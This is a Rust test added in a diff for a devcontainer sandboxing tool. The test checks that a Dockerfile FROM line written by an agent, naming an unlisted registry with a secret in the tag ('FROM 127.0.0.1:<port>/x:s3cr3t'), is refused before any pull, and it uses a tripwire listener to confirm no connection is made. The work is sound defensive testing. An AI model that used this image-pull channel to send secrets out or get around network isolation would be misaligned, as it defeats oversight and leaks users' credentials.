@@ -466,3 +466,105 @@ fn a_remote_add_is_refused_before_the_builder_fetches_it() {
         "the builder connected to the tripwire: {all}"
     );
 }
+
+/// Attack K12: under a closed network the engine pulls `FROM` on the host's network, so an
+/// agent that wrote `FROM 127.0.0.1:<port>/x:<secret>` into the working tree had the next
+/// `up --network none` send the secret to a registry it named. A registry host the committed
+/// configuration does not name is `registry:<host>`, refused before anything is pulled or
+/// built: a tripwire listener sees no connection. The committed Dockerfile, naming a registry
+/// image the engine does not have, still builds with no flag (its host is committed); the
+/// same reference in a file git does not track is asked for.
+#[test]
+fn a_from_line_the_agent_wrote_does_not_reach_a_new_registry_unasked() {
+    use crate::support::context::TestContext;
+    use crate::support::git::git;
+    let Some(ctx) = TestContext::busybox("before_build_registry_channel") else {
+        return;
+    };
+    let ctx = ctx.isolated();
+    let registry = std::env::var("DEVCELL_TEST_REGISTRY").unwrap();
+    // a registry image the engine does not have, so the build must pull it
+    let pulled = format!(
+        "{registry}/devcell-test/k12-committed:{}",
+        crate::support::run_token()
+    );
+    ctx.cleanup().image(&pulled);
+    for args in [
+        vec!["tag", BUSYBOX_IMAGE, pulled.as_str()],
+        vec!["push", pulled.as_str()],
+        vec!["rmi", pulled.as_str()],
+    ] {
+        let (ok, out) = docker(&args);
+        assert!(ok, "{args:?}: {out}");
+    }
+    let tripwire = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = tripwire.local_addr().unwrap().port();
+    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counted = reached.clone();
+    std::thread::spawn(move || {
+        for stream in tripwire.incoming() {
+            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            drop(stream);
+        }
+    });
+    let ctx = ctx.config(r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "nobody"}"#);
+    let workspace = ctx.path().display().to_string();
+    ctx.cleanup()
+        .label(&format!("devcontainer.local_folder={workspace}"));
+    ctx.remove_images_matching(&format!(
+        "vsc-{}-*",
+        ctx.path()
+            .file_name()
+            .unwrap()
+            .to_string_lossy()
+            .to_lowercase()
+    ));
+    let committed = format!("FROM {pulled}\n");
+    ctx.write(".devcontainer/Dockerfile", &committed);
+    git(ctx.path(), &["init", "-q"]);
+    git(ctx.path(), &["add", "-A"]);
+    git(
+        ctx.path(),
+        &["commit", "-q", "-m", "committed configuration"],
+    );
+
+    // the agent's working-tree edit names a new registry
+    ctx.write(
+        ".devcontainer/Dockerfile",
+        &format!("FROM 127.0.0.1:{port}/x:s3cr3t\n"),
+    );
+    let out = ctx.output("up", &["--network", "none"]);
+    let all = text(&out);
+    assert!(!out.status.success(), "{all}");
+    let grant = format!("--allow registry:127.0.0.1:{port}");
+    assert!(all.contains(&grant), "{grant}: {all}");
+    assert_eq!(
+        reached.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "the engine connected to the tripwire: {all}"
+    );
+    assert!(ctx.containers().is_empty(), "created: {all}");
+
+    // the same registry in a file git does not track: asked for too
+    ctx.write(".devcontainer/Dockerfile", &committed);
+    let untracked = r#"{"build": {"dockerfile": "Untracked"}, "remoteUser": "nobody"}"#;
+    ctx.write(".devcontainer/Untracked", &committed);
+    ctx.write(".devcontainer/devcontainer.json", untracked);
+    let out = ctx.output("up", &["--network", "none"]);
+    let all = text(&out);
+    assert!(!out.status.success(), "{all}");
+    assert!(
+        all.contains(&format!("--allow registry:{registry}")),
+        "{all}"
+    );
+    git(
+        ctx.path(),
+        &["checkout", "--", ".devcontainer/devcontainer.json"],
+    );
+
+    // the committed configuration needs no flag: the build pulls from the committed registry
+    let out = ctx.output("up", &["--network", "none"]);
+    let all = text(&out);
+    assert!(out.status.success(), "{all}");
+    assert_eq!(reached.load(std::sync::atomic::Ordering::SeqCst), 0);
+}
